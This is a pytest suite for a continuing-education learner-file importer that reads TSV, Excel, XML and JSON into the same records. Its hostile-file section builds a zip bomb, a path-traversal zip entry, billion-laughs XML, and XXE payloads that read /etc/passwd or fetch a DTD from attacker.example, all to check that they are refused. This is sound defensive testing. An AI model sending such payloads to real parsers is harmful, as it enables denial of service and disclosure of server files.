"""Learner files: TSV, Excel, XML and JSON read to the same records; headers by name;
hostile files refused; the Excel template; uploads of every format alike; the guide."""

from __future__ import annotations

import datetime
import io
import json
import random
import resource
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from pars.accounts.access import get_provider_access
from pars.intake.models import UploadError
from pars.intake.readers import FileRejected, ParsedRow
from pars.intake.store import store_upload
from pars.learners.dictionary import COMPLETION_FIELDS
from pars.learners.models import CompletionStatus, LearnerCompletion, Recipient
from pars.learners.parsers import read_learner_tsv
from pars.learners.parsers.xlsx import read_learner_xlsx
from pars.learners.parsers.xml import read_learner_xml
from pars.learners.services import submit_completion
from pars.learners.validation import CleanCompletion, load_recipients, validate_completion
from pars.learners.xlsx_template import (
    columns_markdown,
    recipients_markdown,
    template_columns,
    write_learner_template,
)
from pars.testing import LEARNER_ROW, make_activity, register
from tests.learners import make_golden

DATA = Path(__file__).parent / "data"
DOC = Path(__file__).parents[2] / "docs" / "learner-files.md"
TODAY = datetime.date(2026, 11, 27)


def validated(rows: Any) -> list[CleanCompletion]:
    """Each (row, raw record) through the one validator; every one must be clean."""
    recipients = load_recipients()
    records = []
    for row, data in rows:
        record, errors = validate_completion(data, row=row, recipients=recipients, today=TODAY)
        assert errors == [], [error.as_dict() for error in errors]
        assert record is not None
        records.append(record)
    return records


def parsed(rows: Any) -> list[tuple[int, dict[str, Any]]]:
    out = []
    for row in rows:
        assert row.problem is None, (row.row, row.problem)
        out.append((row.row, row.data))
    return out


def tsv_records() -> list[CleanCompletion]:
    with (DATA / "golden_learners.tsv").open("rb") as stream:
        return validated(parsed(read_learner_tsv(stream)))


def xlsx_records() -> list[CleanCompletion]:
    return validated(parsed(read_learner_xlsx(DATA / "golden_learners.xlsx")))


def xml_records() -> list[CleanCompletion]:
    with (DATA / "golden_learners.xml").open("rb") as stream:
        return validated(parsed(read_learner_xml(stream)))


def json_records() -> list[CleanCompletion]:
    bodies = json.loads((DATA / "golden_learners.json").read_text(encoding="utf-8"))
    return validated(enumerate(bodies, start=1))


def xml_rows(data: bytes | str) -> list[ParsedRow]:
    raw = data.encode() if isinstance(data, str) else data
    return list(read_learner_xml(io.BytesIO(raw)))


def tsv_rows(text: str) -> list[ParsedRow]:
    return list(read_learner_tsv(io.BytesIO(text.encode())))


def write_sheet(path: Path, rows: list[list[Any]]) -> Path:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    workbook.save(path)
    return path


# ---------------------------------------------------------------------------
# The golden records: four formats, one result


def test_golden_files_are_up_to_date() -> None:
    for name, content in make_golden.build_all().items():
        assert (DATA / name).read_bytes() == content, (
            f"{name} is stale: run .venv/bin/python -m tests.learners.make_golden"
        )


def test_the_golden_tsv_reads_to_the_expected_records(db: None) -> None:
    abim, abs_, rems, tennessee, delete = tsv_records()
    assert (abim.recipient, abim.learner_id, abim.moc_points) == ("ABIM", "123456", Decimal(10))
    assert abim.moc_credit_types == ["Medical Knowledge"]
    assert abim.completion_date == datetime.date(2026, 3, 2)
    # ABS matches on name and birth date: no board ID, and the activity by ACCME ID.
    assert (abs_.recipient, abs_.learner_id, abs_.accme_activity_id) == ("ABS", "", "100200300")
    assert (abs_.birth_month, abs_.birth_day) == (12, 9)
    assert abs_.moc_credit_types == ["Accredited CME", "Self-Assessment"]
    # Choices are kept as the dictionary's codes, whatever the case written.
    assert (rems.profession, rems.practice_state, rems.dea_registration) == (
        "physician assistant",
        "MI",
        "individual",
    )
    assert (rems.practice_area, rems.surgical_procedures, rems.time_in_practice) == (
        "pain",
        False,
        "6-10 years",
    )
    assert (rems.birth_month, rems.birth_day) == (2, 29)
    assert (tennessee.npi, tennessee.license_state, tennessee.learner_id) == (
        "1234567893",
        "TN",
        "",
    )
    assert tennessee.cme_credits == Decimal(10)
    assert (delete.action, delete.recipient, delete.learner_id) == ("delete", "ABIM", "654321")


@pytest.mark.parametrize(
    "read", [xlsx_records, xml_records, json_records], ids=["xlsx", "xml", "json"]
)
def test_each_format_reads_to_the_same_records_as_the_tsv(db: None, read: Any) -> None:
    expected = tsv_records()
    assert len(expected) == 5
    assert read() == expected


# ---------------------------------------------------------------------------
# Tab-delimited and Excel: columns by header name


ALIASED = {
    "Date Completed": "2026-03-02",
    "Board": "ABIM",
    "Given Name": "Ada",
    "Surname": "Lovelace",
    "DOB": "12-10",
    "Board ID": "123456",
    "AMA Credits": "10",
    "Points": "10",
    "Credit Type": "Medical Knowledge",
    "activity id (provider)": "GR-1",
    "  record_action ": "Add",
}


def expected_learner_row() -> dict[str, Any]:
    return {"provider_activity_id": "GR-1", "action": "Add", **LEARNER_ROW}


def test_header_aliases_in_any_order_read_to_the_same_record(db: None) -> None:
    items = list(ALIASED.items())
    random.Random(5).shuffle(items)
    header = "\t".join(name for name, _ in items)
    line = "\t".join(value for _, value in items)
    rows = tsv_rows(f"{header}\n{line}\n")
    assert [row.data for row in rows] == [expected_learner_row()]
    assert validated(parsed(rows)) == validated([(2, expected_learner_row())])


def test_header_aliases_in_excel_too(db: None, tmp_path: Path) -> None:
    items = list(reversed(ALIASED.items()))
    path = write_sheet(tmp_path / "aliases.xlsx", [[n for n, _ in items], [v for _, v in items]])
    rows = list(read_learner_xlsx(path))
    assert [row.data for row in rows] == [expected_learner_row()]


def test_birth_month_and_day_may_come_as_two_columns(db: None) -> None:
    rows = tsv_rows(
        "First Name\tLast Name\tBirth Month\tBirth Day\tCompletion Date\tRecipient\t"
        "Learner ID\tMOC Points\tProvider Activity ID\n"
        "Ada\tLovelace\t12\t10\t2026-03-02\tABIM\t123456\t10\tGR-1\n"
    )
    (record,) = validated(parsed(rows))
    assert (record.birth_month, record.birth_day) == (12, 10)


def test_unknown_columns_are_ignored(db: None) -> None:
    # (db: an unmatched column is looked for among the recipients' identifier labels.)
    (row,) = tsv_rows("First Name\tLast Name\tCompletion Date\tNotes\nAda\tL\t2026-03-02\thi\n")
    assert row.data == {"first_name": "Ada", "last_name": "L", "completion_date": "2026-03-02"}


@pytest.mark.parametrize(
    ("lines", "words"),
    [
        (["Ada\tLovelace\t12-10\t2026-03-02"], "The first row must be a header naming the columns"),
        (["Given Name\tRecipient\tCompletion Date"], "at least First Name, Last Name"),
        (["First Name\tLast Name\tSurname\tCompletion Date"], "names the column 'Surname' twice"),
        ([""], "The file is empty"),
    ],
    ids=["no header", "missing column", "same column twice", "empty"],
)
def test_a_file_without_a_learner_header_is_refused(lines: list[str], words: str) -> None:
    with pytest.raises(FileRejected, match=words):
        tsv_rows("\n".join(lines) + "\n")


def test_an_excel_file_without_a_learner_header_is_refused(tmp_path: Path) -> None:
    path = write_sheet(tmp_path / "data.xlsx", [["Ada", "Lovelace", "12-10", "2026-03-02"]])
    with pytest.raises(FileRejected, match="The first row must be a header") as refused:
        list(read_learner_xlsx(path))
    assert "Found: Ada, Lovelace, 12-10, 2026-03-02" in refused.value.message
    empty = write_sheet(tmp_path / "empty.xlsx", [])
    with pytest.raises(FileRejected, match="The first worksheet is empty"):
        list(read_learner_xlsx(empty))


def test_excel_values_pass_through_natively(tmp_path: Path) -> None:
    path = write_sheet(
        tmp_path / "native.xlsx",
        [
            ["Learner ID", "NPI", "First Name", "Last Name", "Birth Month and Day",
             "Completion Date", "MOC Points", "Performs Surgical Procedures?"],
            [], # a blank row is skipped
            [123456, 1234567893.0, "Ada", "Lovelace", datetime.datetime(1980, 12, 10),  # noqa: DTZ001
             datetime.datetime(2026, 3, 2), 2.5, True],  # noqa: DTZ001
        ],
    )  # fmt: skip
    (row,) = read_learner_xlsx(path)
    assert row.row == 3  # sheet rows
    assert row.data == {
        "learner_id": 123456,
        "npi": 1234567893,
        "first_name": "Ada",
        "last_name": "Lovelace",
        "birth_date": datetime.date(1980, 12, 10),
        "completion_date": datetime.date(2026, 3, 2),
        "moc_points": 2.5,
        "surgical_procedures": True,
    }


def test_extra_cells_beyond_the_header_make_a_row_problem() -> None:
    first, second = tsv_rows(
        "First Name\tLast Name\tCompletion Date\nA\tB\t2026-03-02\nA\tB\t2026-03-02\tsurplus\n"
    )
    assert first.problem is None
    assert second.row == 3
    assert second.problem == "The row has 4 cells but the header names 3 columns."


# ---------------------------------------------------------------------------
# Excel: hostile and broken files


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def test_an_excel_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    bomb = _zip(
        tmp_path / "bomb.xlsx",
        {"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\0" * 20_000_000},
    )
    assert bomb.stat().st_size < 100_000
    started = time.monotonic()
    with pytest.raises(FileRejected, match="zip bomb"):
        read_learner_xlsx(bomb)
    assert time.monotonic() - started < 1.0


def test_unsafe_paths_and_non_workbooks_are_refused(tmp_path: Path) -> None:
    traversal = tmp_path / "traversal.xlsx"
    with zipfile.ZipFile(traversal, "w") as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("../evil.xml", b"x")
    with pytest.raises(FileRejected, match="unsafe path"):
        read_learner_xlsx(traversal)
    text = tmp_path / "learners.xlsx"
    text.write_bytes(b"First Name\tLast Name\n")
    with pytest.raises(FileRejected, match=r"not an Excel workbook \(\.xlsx\)"):
        read_learner_xlsx(text)
    broken = _zip(tmp_path / "broken.xlsx", {"xl/workbook.xml": b"not xml <<<"})
    with pytest.raises(FileRejected, match="not an Excel workbook"):
        read_learner_xlsx(broken)


# ---------------------------------------------------------------------------
# XML


def report(body: str, *, root: str = "ACCMELearnerReports", attrs: str = "") -> str:
    return f'<?xml version="1.0"?>\n<{root}{attrs}>{body}</{root}>'


ADA = """
<LearnerReport>
  <Member>
    <UniqueID domain="ABIM">123456</UniqueID>
    <UniqueID domain="NPI">1234567893</UniqueID>
    <UniqueID domain="TN">MD-77</UniqueID>
    <Name><GivenName>Ada</GivenName><FamilyName>Lovelace</FamilyName></Name>
    <PersonalInfo><BirthDate>1980-12-10</BirthDate></PersonalInfo>
  </Member>
  <Activity activityID="GR-1">
    <Module>
      <ModuleName moduleID="123456789">Grand Rounds</ModuleName>
      <CompletedDateTime>2026-03-02T23:30:00-06:00</CompletedDateTime>
      <CreditCertificate><CreditReceived>
        <activityCertification>AMA PRA Category 1 Credits™</activityCertification>
        <numberOfCredits>10</numberOfCredits>
      </CreditReceived></CreditCertificate>
      <CreditCertificate><CreditReceived>
        <activityCertification>ABIM</activityCertification>
        <numberOfCredits>8</numberOfCredits>
        <CreditFocus><Description>Medical Knowledge</Description></CreditFocus>
        <CreditFocus><Description>Patient Safety</Description></CreditFocus>
      </CreditReceived></CreditCertificate>
      <CreditCertificate><CreditReceived>
        <activityCertification>TN</activityCertification>
      </CreditReceived></CreditCertificate>
    </Module>
  </Activity>
</LearnerReport>
"""


def test_each_recipient_certificate_is_one_record_numbered_in_document_order() -> None:
    rows = xml_rows(report(ADA + ADA.replace("Ada", "Bea")))
    assert [(row.row, row.data["first_name"], row.data["recipient"]) for row in rows] == [
        (1, "Ada", "ABIM"),
        (2, "Ada", "TN"),
        (3, "Bea", "ABIM"),
        (4, "Bea", "TN"),
    ]
    common = {
        "first_name": "Ada",
        "last_name": "Lovelace",
        "birth_date": "1980-12-10",
        "provider_activity_id": "GR-1",
        "accme_activity_id": "123456789",
        "completion_date": "2026-03-02T23:30:00-06:00",
        "cme_credits": "10",
        "npi": "1234567893",
    }
    assert rows[0].data == {
        **common,
        "recipient": "ABIM",
        "learner_id": "123456",
        "moc_points": "8",
        "moc_credit_types": ["Medical Knowledge", "Patient Safety"],
    }
    # The state board's record carries the license of its state, not the board ID.
    assert rows[1].data == {
        **common,
        "recipient": "TN",
        "learner_id": "MD-77",
        "license_state": "TN",
    }


def test_the_completion_date_is_the_day_written_whatever_the_time_zone(db: None) -> None:
    (record, _) = validated((row.row, row.data) for row in xml_rows(report(ADA)))
    assert record.completion_date == datetime.date(2026, 3, 2)


def test_namespaces_are_optional_and_names_are_matched_without_case() -> None:
    plain = xml_rows(report(ADA))
    spaced = xml_rows(
        report(
            ADA.replace("<LearnerReport>", '<LearnerReport xmlns="urn:example:learners">'),
            attrs=' xmlns="urn:example:learners"',
        )
    )
    prefixed = xml_rows(
        report(
            ADA.replace("<", "<l:").replace("<l:/", "</l:"),
            root="l:ACCMELearnerReports",
            attrs=' xmlns:l="http://ns.medbiq.org/activityreport/v2/"',
        )
    )
    shouting = xml_rows(report(ADA.replace("CompletedDateTime", "COMPLETEDDATETIME")))
    expected = [row.data for row in plain]
    assert [row.data for row in spaced] == expected
    assert [row.data for row in prefixed] == expected
    assert [row.data for row in shouting] == expected


def test_the_medbiquitous_activity_report_wrapper_and_json_style_children() -> None:
    body = """
    <ActivityReport>
      <Member>
        <UniqueID><value>55512</value><domain>abs</domain></UniqueID>
        <Name><GivenName>Grace</GivenName><FamilyName>Hopper</FamilyName></Name>
        <PersonalInfo><BirthDate>12-09</BirthDate></PersonalInfo>
      </Member>
      <Activity>
        <ProviderActivityID>GR-1</ProviderActivityID>
        <Module>
          <ModuleName><value>Rounds</value><moduleID>123456789</moduleID></ModuleName>
          <CompletedDateTime>2026-03-01</CompletedDateTime>
          <CreditCertificate>
            <UniqueID domain="ABS">99999</UniqueID>
            <CreditReceived>
              <activityCertification>ABS</activityCertification>
              <numberOfCredits>4</numberOfCredits>
              <creditUnit>Credit</creditUnit>
            </CreditReceived>
          </CreditCertificate>
        </Module>
      </Activity>
    </ActivityReport>"""
    (row,) = xml_rows(report(body, root="ActivityReports"))
    assert row.data["accme_activity_id"] == "123456789"
    assert row.data["provider_activity_id"] == "GR-1"
    # The certificate's own identifier wins; a credit unit other than Point is CME credit.
    assert row.data["learner_id"] == "99999"
    assert row.data["cme_credits"] == "4"
    assert "moc_points" not in row.data


def test_rems_participant_fields_and_local_identifier() -> None:
    body = """
    <LearnerReport>
      <Member><Name><GivenName>J</GivenName><FamilyName>N</FamilyName></Name></Member>
      <Participant>
        <LocalIdentifier domain="idd:example.org:learner">H046431</LocalIdentifier>
        <StateOfPrimaryPractice>MI</StateOfPrimaryPractice>
        <DEARegistration>None</DEARegistration>
        <Profession>Nurse</Profession>
        <PracticeArea>Hospice and/or Palliative Care</PracticeArea>
        <SurgicalProcedures>false</SurgicalProcedures>
        <TimeInPractice>11-15 years</TimeInPractice>
      </Participant>
      <Activity activityID="GR-1"><Module>
        <CompletedDateTime>2026-03-02</CompletedDateTime>
        <CreditCertificate><CreditReceived>
          <activityCertification>REMS</activityCertification>
        </CreditReceived></CreditCertificate>
      </Module></Activity>
    </LearnerReport>"""
    (row,) = xml_rows(report(body))
    assert row.data == {
        "first_name": "J",
        "last_name": "N",
        "learner_id": "H046431",
        "practice_state": "MI",
        "dea_registration": "None",
        "profession": "Nurse",
        "practice_area": "Hospice and/or Palliative Care",
        "surgical_procedures": "false",
        "time_in_practice": "11-15 years",
        "provider_activity_id": "GR-1",
        "completion_date": "2026-03-02",
        "recipient": "REMS",
    }


def test_a_report_without_recipient_or_with_two_learners_is_reported_per_row(db: None) -> None:
    no_recipient = """
    <LearnerReport>
      <Member><Name><GivenName>A</GivenName><FamilyName>B</FamilyName></Name></Member>
      <Activity activityID="GR-1"><Module>
        <CompletedDateTime>2026-03-02</CompletedDateTime>
      </Module></Activity>
    </LearnerReport>"""
    two = "<LearnerReport><Member/><Member/></LearnerReport>"
    first, second = xml_rows(report(no_recipient + two))
    _, errors = validate_completion(first.data, row=1, recipients=load_recipients(), today=TODAY)
    assert "learner.recipient.required" in {error.rule for error in errors}
    assert second.row == 2
    assert (
        second.problem
        == "The <LearnerReport> has 2 <Member> elements; give one learner per report."
    )


@pytest.mark.parametrize(
    ("action", "expected"), [("Add", "Add"), ("Delete", "Delete"), ("delete", "delete")]
)
def test_the_record_action_is_passed_to_the_validator(action: str, expected: str) -> None:
    body = ADA.replace(
        "</LearnerReport>",
        f"<XtensibleInfo><LearnerRecordAction>{action}</LearnerRecordAction></XtensibleInfo>"
        "</LearnerReport>",
    )
    assert {row.data["action"] for row in xml_rows(report(body))} == {expected}


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "The file is empty."),
        (b"<Learners><LearnerReport/></Learners>", "The root element is <Learners>"),
        (
            b"<ACCMELearnerReports><Batch><LearnerReport/></Batch></ACCMELearnerReports>",
            "must be a direct child",
        ),
        (b"<ACCMELearnerReports><LearnerReport>", "not well-formed XML at line 1"),
    ],
    ids=["empty", "wrong root", "nested", "truncated"],
)
def test_files_that_are_not_learner_xml_are_refused(data: bytes, words: str) -> None:
    assert words in refuse(data)


def test_an_empty_report_list_has_no_rows() -> None:
    assert xml_rows(report("")) == []


# Hostile XML: refused at once, in bounded time and memory.


def _maxrss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux: KiB


def refuse(data: bytes) -> str:
    before = _maxrss_bytes()
    started = time.monotonic()
    with pytest.raises(FileRejected) as refused:
        list(read_learner_xml(io.BytesIO(data)))
    assert time.monotonic() - started < 1.0
    assert _maxrss_bytes() - before < 50 * 1024 * 1024
    return refused.value.message


_LAUGHS = b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10) for n in range(1, 10))
HOSTILE = {
    "billion laughs": b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + _LAUGHS
    + b"]><ACCMELearnerReports>&lol9;</ACCMELearnerReports>",
    "external entity, file": b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<ACCMELearnerReports><LearnerReport><Member><Name><GivenName>&xxe;</GivenName>"
    b"</Name></Member></LearnerReport></ACCMELearnerReports>",
    "external DTD": b'<!DOCTYPE ACCMELearnerReports SYSTEM "http://attacker.example/l.dtd">'
    b"<ACCMELearnerReports/>",
    "parameter entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    b"<ACCMELearnerReports/>",
}
LONG_COMMENT = b"<!--" + b" padding " * 40_000 + b"-->\n"  # past the byte pre-scan


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_up_front(name: str) -> None:
    message = refuse(b'<?xml version="1.0"?>\n' + HOSTILE[name])
    assert "DOCTYPE" in message
    assert "Remove the <!DOCTYPE" in message


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_after_a_long_comment_is_refused(name: str) -> None:
    message = refuse(b'<?xml version="1.0"?>\n' + LONG_COMMENT + HOSTILE[name])
    assert "The file has a DOCTYPE" in message


def test_an_undeclared_entity_is_refused_not_resolved() -> None:
    message = refuse(b"<ACCMELearnerReports>\n&xxe;</ACCMELearnerReports>")
    assert "Entity 'xxe' not defined" in message


def test_bulk_without_reports_is_refused_before_it_grows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pars.learners.parsers.xml.MAX_GAP_BYTES", 1024 * 1024)
    junk = b"<Junk>" + b"<j>filler</j>" * 200_000 + b"</Junk>"
    message = refuse(b"<ACCMELearnerReports>" + junk + b"</ACCMELearnerReports>")
    assert "without a complete <LearnerReport>" in message


def test_a_big_xml_file_streams_in_flat_memory(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    with path.open("wb") as out:
        out.write(b"<ACCMELearnerReports>")
        for number in range(60_000):
            out.write(ADA.replace("123456<", f"{number:06d}<").encode())
        out.write(b"</ACCMELearnerReports>")
    assert path.stat().st_size > 60 * 1024 * 1024
    before = _maxrss_bytes()
    count = 0
    with path.open("rb") as stream:
        for row in read_learner_xml(stream):
            count += 1
            last = row
    assert count == 120_000
    assert last.data["learner_id"] == "MD-77"
    assert _maxrss_bytes() - before < 40 * 1024 * 1024


# ---------------------------------------------------------------------------
# The Excel template


def test_the_template_read_back_maps_every_column(db: None, tmp_path: Path) -> None:
    path = tmp_path / "template.xlsx"
    with path.open("wb") as stream:
        write_learner_template(stream)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Learners"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["Action", *(spec.label for spec in COMPLETION_FIELDS)]
    sheet.append([f"value {number}" for number in range(len(header))])
    workbook.save(path)
    (row,) = read_learner_xlsx(path)
    assert set(row.data) == {spec.name for spec in template_columns()}
    assert row.data["action"] == "value 0"
    assert row.data["time_in_practice"] == f"value {len(header) - 1}"


def test_the_template_offers_the_allowed_values_and_explains_each_column(
    db: None, tmp_path: Path
) -> None:
    Recipient.objects.create(
        code="ABFM",
        name="American Board of Family Medicine",
        kind="moc_board",
        identifier_kind="board_id",
        identifier_label="ABFM ID",
        sort_order=95,
    )
    path = tmp_path / "template.xlsx"
    with path.open("wb") as stream:
        write_learner_template(stream)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Learners"]
    lists = workbook["Lists"]
    columns = {cell.value: cell.column_letter for cell in sheet[1]}
    offered = {}
    for validation in sheet.data_validations.dataValidation:
        letter = str(validation.sqref).split(":")[0].rstrip("0123456789")
        source = validation.formula1.split("!")[1].replace("$", "")
        first, last = source.split(":")
        offered[letter] = [cell.value for (cell,) in lists[first:last]]
    assert offered[columns["Action"]] == ["Add", "Delete"]
    assert "ABFM" in offered[columns["Recipient"]]
    assert "REMS" in offered[columns["Recipient"]]
    assert "TN" in offered[columns["License State"]]
    assert offered[columns["Performs Surgical Procedures?"]] == ["Yes", "No"]
    assert "6-10 years" in offered[columns["Time in Practice"]]
    assert columns["First Name"] not in offered
    instructions = [[cell.value for cell in row] for row in workbook["Instructions"].iter_rows()]
    described = {row[0]: row for row in instructions if row and row[0]}
    for spec in template_columns():
        assert described[spec.label][1] == spec.help
    assert described["ABFM"][1] == "American Board of Family Medicine"
    assert "Tennessee" in described["TN"][1]
    assert "NPI" in described["TN"][3]
    assert sheet.column_dimensions[columns["Birth Month and Day"]].number_format == "@"


# ---------------------------------------------------------------------------
# Uploads: every format through the shared upload job, alike


@pytest.fixture
def golden_activity(provider: Any) -> Any:
    activity = make_activity(
        provider,
        provider_activity_id=make_golden.ACTIVITY_ID,
        accme_activity_id=make_golden.ACCME_ID,
    )
    register(activity, "ABIM")
    register(activity, "ABS", credit_types=["Accredited CME", "Self-Assessment"])
    register(activity, "REMS")
    register(activity, "TN")
    return activity


def _upload(access: Any, name: str) -> Any:
    content = (DATA / name).read_bytes()
    upload = store_upload(access, SimpleUploadedFile(name, content), kind="learners")
    upload.refresh_from_db()
    return upload


def _counts(upload: Any) -> tuple[Any, ...]:
    return (
        upload.status,
        upload.rows_total,
        upload.added,
        upload.updated,
        upload.deleted,
        upload.unchanged,
        upload.rejected,
    )


@pytest.mark.parametrize(
    "name", ["golden_learners.tsv", "golden_learners.xlsx", "golden_learners.xml"]
)
def test_each_format_uploads_with_the_same_counts(
    provider: Any, editor: Any, golden_activity: Any, name: str
) -> None:
    access = get_provider_access(editor, provider.provider_id)
    # The record the file's Delete withdraws.
    babbage = submit_completion(
        access,
        {
            "provider_activity_id": make_golden.ACTIVITY_ID,
            **LEARNER_ROW,
            "first_name": "Charles",
            "last_name": "Babbage",
            "birth_date": "12-26",
            "learner_id": "654321",
            "completion_date": "2026-03-01",
        },
        channel="web",
    )
    upload = _upload(access, name)
    assert _counts(upload) == ("succeeded", 5, 4, 0, 1, 0, 0), upload.message
    assert upload.file_format == name.rsplit(".", 1)[1]
    assert babbage is not None
    babbage.refresh_from_db()
    assert babbage.status == CompletionStatus.WITHDRAWN
    queued = LearnerCompletion.objects.filter(status=CompletionStatus.QUEUED)
    assert sorted(queued.values_list("recipient__code", "last_name")) == [
        ("ABIM", "Lovelace"),
        ("ABS", "Hopper"),
        ("REMS", "Núñez-O'Brien"),
        ("TN", "Walker"),
    ]


def test_the_same_records_in_another_format_change_nothing(
    provider: Any, editor: Any, golden_activity: Any
) -> None:
    access = get_provider_access(editor, provider.provider_id)
    first = _upload(access, "golden_learners.tsv")
    assert (first.status, first.added, first.rejected) == ("partial", 4, 1)
    assert list(UploadError.objects.filter(upload=first).values_list("row", "rule")) == [
        (6, "learner.record.not_found")
    ]
    for name in ("golden_learners.xml", "golden_learners.xlsx"):
        again = _upload(access, name)
        assert (again.added, again.updated, again.unchanged, again.rejected) == (0, 0, 4, 1)
    assert LearnerCompletion.objects.count() == 4
    assert set(LearnerCompletion.objects.values_list("version", flat=True)) == {1}


def test_an_unreadable_xml_learner_file_applies_nothing(
    provider: Any, editor: Any, golden_activity: Any
) -> None:
    access = get_provider_access(editor, provider.provider_id)
    content = (DATA / "golden_learners.xml").read_bytes()
    hostile = content.replace(
        b"<ACCMELearnerReports", b'<!DOCTYPE r SYSTEM "file:///etc/passwd"><ACCMELearnerReports', 1
    )
    upload = store_upload(access, SimpleUploadedFile("l.xml", hostile), kind="learners")
    upload.refresh_from_db()
    assert upload.status == "rejected"
    assert "DOCTYPE" in upload.message
    assert upload.message.endswith("Nothing was changed.")
    assert not LearnerCompletion.objects.exists()


# ---------------------------------------------------------------------------
# The learner file guide


def test_the_guide_lists_every_column_as_the_dictionary_describes_it() -> None:
    doc = DOC.read_text(encoding="utf-8")
    table = columns_markdown()
    assert table in doc, "docs/learner-files.md is stale; its columns table should be:\n" + table
    for spec in template_columns():
        assert f"| {spec.label} | `{spec.name}` |" in doc, spec.label


def test_the_guide_lists_the_seeded_recipients() -> None:
    doc = DOC.read_text(encoding="utf-8")
    table = recipients_markdown()
    assert table in doc, "docs/learner-files.md is stale; its recipients table should be:\n" + table


def test_the_guides_xml_example_reads_to_valid_records(db: None) -> None:
    doc = DOC.read_text(encoding="utf-8")
    example = doc.split("```xml\n", 1)[1].split("```", 1)[0]
    rows = xml_rows(example)
    records = validated(parsed(rows))
    assert [(record.recipient, record.last_name) for record in records] == [
        ("ABIM", "Lovelace"),
        ("REMS", "Núñez-O'Brien"),
        ("TN", "Walker"),
    ]
